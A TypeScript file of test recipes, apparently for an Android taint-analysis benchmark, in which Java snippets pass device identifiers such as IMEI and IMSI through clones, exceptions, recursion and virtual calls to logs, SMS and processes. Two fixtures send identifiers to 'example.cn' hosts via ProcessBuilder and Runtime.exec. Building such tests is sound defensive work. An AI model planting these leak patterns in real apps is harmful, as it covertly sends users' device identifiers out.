import { type FlowRecipe, leak, none } from '../recipe.ts';
import { androidId, create, iccid, imei, imeiOf, imsi, line1, main, sms } from '../snippets.ts';

const here = 'MainActivity.onCreate';

export const generalJava: readonly FlowRecipe[] = [
  {
    id: 'java-clone',
    about: 'A list is cloned, and the copy printed.',
    java: main(`ArrayList l = new ArrayList(); l.add(${imei}); ArrayList copy = (ArrayList) l.clone(); Log.d("c", (String) copy.get(0));`),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-exception-carries',
    about: 'Thrown as the message of an exception and caught two calls higher.',
    java: `class Deep { static void a(String s) { c(s); } static void c(String s) { throw new RuntimeException(s); } } ${main(`try { Deep.a(${imei}); } catch (RuntimeException e) { ${sms('e.getMessage()')} }`)}`,
    flows: [leak('imei', here, 'sms')],
  },
  {
    id: 'java-exception-logged',
    about: 'The exception itself is given to the log, with what it carries.',
    java: main(
      `try { throw new IllegalArgumentException("id " + ${imei}); } catch (IllegalArgumentException e) { Log.e("e", "failed", e); }`,
    ),
    flows: [leak('imei', here, 'log.e with exception')],
  },
  {
    id: 'java-finally-sends',
    about: 'The finally block sends, though the method returns before.',
    java: `class Work { static int work(Context c) { String s = "start"; try { s = ${imeiOf('c')}; if (s.length() > 3) return 1; s = "short"; } finally { Log.d("f", s); } return 0; } } ${main('Work.work(this);')}`,
    flows: [leak('imei', 'Work.work', 'log.d')],
  },
  {
    id: 'java-finally-clears',
    about: 'The finally block replaces the value before it is used.',
    java: main(`String s = ""; try { s = ${imei}; setTitle("x"); } finally { s = "gone"; } Log.d("f", s);`),
    flows: [],
    noFlows: [none('replaced in finally', 'imei', here, 'log.d')],
  },
  {
    id: 'java-start-process',
    about: 'An argument of a program that is started.',
    java: main(
      `try { new ProcessBuilder(new String[]{"ping", "-c1", ${imei} + ".example.cn"}).start(); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('imei', here, 'process')],
  },
  {
    id: 'java-runtime-exec',
    about: 'A command line for Runtime.exec.',
    java: main(`try { Runtime.getRuntime().exec("am start -d http://x.example.cn/" + ${imsi}); } catch (IOException e) { finish(); }`),
    flows: [leak('imsi', here, 'exec')],
  },
  {
    id: 'java-static-initialiser-sends',
    about: 'The initialiser of a class prints a static field of another one; it runs when the class is first used, after that was set.',
    java: `class Box { static String v = ""; } class Late { static int n; static { n = 3; Log.d("late", Box.v); } } ${main(`Box.v = ${imei}; Late.n = 4;`)}`,
    flows: [leak('imei', here, 'log.d', 'Late.<clinit>')],
  },
  {
    id: 'java-static-initialiser-reads',
    about: 'The initialiser of the class reads, through the application object; a method of it prints.',
    java: `class App extends Application { static App app; public void onCreate() { super.onCreate(); app = this; } } class Id { static String id; static { id = ${imeiOf('App.app')}; } static void show() { Log.d("id", id); } } ${main('Id.show();')}`,
    manifest: { application: { name: '.App' } },
    flows: [leak('imei', 'Id.<clinit>', 'log.d', 'Id.show')],
  },
  {
    id: 'java-format',
    about: 'String.format with an array of arguments, and MessageFormat over the result.',
    java: main(
      `String s = String.format("%s-%s", new Object[]{"a", ${imei}}); Log.d("f", MessageFormat.format("<{0}>", new Object[]{s}));`,
    ),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-joined-and-split',
    about: 'Joined with other texts, split again, the part taken.',
    java: main(`String s = TextUtils.join(",", new Object[]{"v1", ${iccid}}); String[] p = s.split(","); ${sms('p[1].trim()')}`),
    flows: [leak('iccid', here, 'sms')],
  },
  {
    id: 'java-tokenised',
    about: 'A tokenizer over a line with the value.',
    java: main(`StringTokenizer t = new StringTokenizer("id=" + ${imei}, "="); t.nextToken(); Log.d("t", t.nextToken());`),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-replaced-and-cut',
    about: 'replace with characters and texts, a substring, upper case, concat.',
    java: main(`String s = ${androidId}.replace('0', 'O').replace("1", "l").substring(2, 8).toUpperCase().concat("!"); Log.w("s", s);`),
    flows: [leak('android id', here, 'log.w')],
  },
  {
    id: 'java-string-buffer',
    about: 'A StringBuffer, insert and reverse.',
    java: main(`StringBuffer s = new StringBuffer("x"); s.insert(0, ${line1}).reverse(); Log.d("s", s.toString());`),
    flows: [leak('phone', here, 'log.d')],
  },
  {
    id: 'java-regex-group',
    about: 'A group of a regular expression.',
    java: main(`Matcher m = Pattern.compile("(\\\\d{6}).*").matcher(${imei}); if (m.find()) { Log.d("m", m.group(1)); }`),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-writer-and-reader',
    about: 'Through a StringWriter and a BufferedReader.',
    java: main(
      `try { StringWriter w = new StringWriter(); w.write(${imsi}); BufferedReader r = new BufferedReader(new StringReader(w.toString())); Log.d("r", r.readLine()); } catch (IOException e) { finish(); }`,
    ),
    flows: [leak('imsi', here, 'log.d')],
  },
  {
    id: 'java-dead-method',
    about: 'Two methods that call each other, and nobody calls them.',
    java: `class MainActivity extends Activity { ${create} } void a(int n) { if (n > 0) c(n - 1); } void c(int n) { Log.d("dead", ${imei}); a(n); } }`,
    flows: [],
    noFlows: [none('nobody calls it', 'imei', 'MainActivity.c', 'log.d')],
  },
  {
    id: 'java-virtual-two-children',
    about: 'A variable of the parent holds the child that prints; the other child exists and gets a constant.',
    java: `class Out { void out(String s) { } } class Printing extends Out { void out(String s) { Log.d("p", s); } } class Sending extends Out { void out(String s) { ${sms('s')} } }
${main(`Out o = new Printing(); o.out(${imei}); o = new Sending(); o.out("hello");`)}`,
    flows: [leak('imei', here, 'log.d', 'Printing.out')],
    noFlows: [none('it gets a constant', 'imei', here, 'sms', 'Sending.out')],
  },
  {
    id: 'java-virtual-unknown-child',
    about: 'Which child it is only the run decides: both.',
    java: `abstract class Out { abstract void out(String s); static Out any() { if (new Random().nextBoolean()) return new Printing(); return new Sending(); } } class Printing extends Out { void out(String s) { Log.d("p", s); } } class Sending extends Out { void out(String s) { ${sms('s')} } }
${main(`Out.any().out(${imsi});`)}`,
    flows: [leak('imsi', here, 'log.d', 'Printing.out'), leak('imsi', here, 'sms', 'Sending.out')],
  },
  {
    id: 'java-virtual-source-child',
    about: 'The children differ in what they give: one reads, one does not, and the clean one is used.',
    java: `class In { String in(Context c) { return "in"; } } class Reading extends In { String in(Context c) { return ${imeiOf('c')}; } } class Fixed extends In { String in(Context c) { return "fixed"; } }
${main('In reading = new Reading(); In i = new Fixed(); Log.d("i", i.in(this)); setTitle(reading.in(this));')}`,
    flows: [],
    noFlows: [none('the other child is asked', 'imei', 'Reading.in', 'log.d', 'MainActivity.onCreate')],
  },
  {
    id: 'java-interface-default',
    about: 'A default method of an interface calls the abstract one.',
    java: `interface Tell { void tell(String s); void twice(String s) { tell(s); tell(s + s); } } class Teller implements Tell { public void tell(String s) { Log.v("t", s); } } ${main(`Tell t = new Teller(); t.twice(${imei});`)}`,
    flows: [leak('imei', here, 'log.v', 'Teller.tell')],
  },
  {
    id: 'java-big-switch',
    about: 'A switch of many numbers: one case reads, the loss stands behind it.',
    java: main(
      `String s = ""; for (int i = 0; i < 12; i++) { switch (i * 7 % 12) { case 0: s += "a"; break; case 1: s = s + i; break; case 2: case 3: s += "c"; break; case 4: s += "d"; break; case 7: s += ${imei}; break; case 9: s += "f"; break; case 11: s += "g"; break; default: s += "-"; } } Log.d("sw", s);`,
    ),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-recursion',
    about: 'A method that calls itself and turns the text around.',
    java: `class Turn { static String turn(String s) { if (s.length() < 2) return s; return turn(s.substring(1)) + s.charAt(0); } } ${main(`Log.d("t", Turn.turn(${imei}));`)}`,
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-mutual-recursion',
    about: 'Two methods that call each other hand it on until a counter is zero.',
    java: `class Ping { static void ping(int n, String s) { if (n == 0) Log.i("p", s); else Pong.pong(n - 1, s); } } class Pong { static void pong(int n, String s) { Ping.ping(n, "." + s); } } ${main(`Ping.ping(5, ${imsi});`)}`,
    flows: [leak('imsi', here, 'log.i', 'Ping.ping')],
  },
  {
    id: 'java-own-iterator',
    about: 'An Iterable of the app in a loop over it.',
    java: `class One implements Iterable, Iterator { final Object o; boolean done; One(Object x) { o = x; } public Iterator iterator() { return this; } public boolean hasNext() { return !done; } public Object next() { done = true; return o; } public void remove() { } }
${main(`for (Object x : new One(${line1})) { ${sms('(String) x')} }`)}`,
    flows: [leak('phone', here, 'sms')],
  },
  {
    id: 'java-boxed-characters',
    about: 'Characters boxed into a list and put together again.',
    java: main(
      `String id = ${imei}; List l = new ArrayList(); for (int i = 0; i < id.length(); i++) { l.add(Character.valueOf(id.charAt(i))); } StringBuilder out = new StringBuilder(); for (Object o : l) { out.append(((Character) o).charValue()); } Log.d("l", out.toString());`,
    ),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-atomic-reference',
    about: 'An AtomicReference, a WeakReference, a ThreadLocal, one after the other.',
    java: main(
      `AtomicReference a = new AtomicReference(); a.set(${imei}); WeakReference w = new WeakReference(a.get()); ThreadLocal t = new ThreadLocal(); t.set(w.get()); Log.d("t", (String) t.get());`,
    ),
    flows: [leak('imei', here, 'log.d')],
  },
  {
    id: 'java-visitor',
    about: 'Double dispatch: the element calls back the visitor with itself.',
    java: `interface Visitor { void visit(Elem e); } class Elem { final String v; Elem(String s) { v = s; } void accept(Visitor x) { x.visit(this); } } class Show implements Visitor { public void visit(Elem e) { Log.d("v", e.v); } } ${main(`new Elem(${iccid}).accept(new Show());`)}`,
    flows: [leak('iccid', here, 'log.d', 'Show.visit')],
  },
];
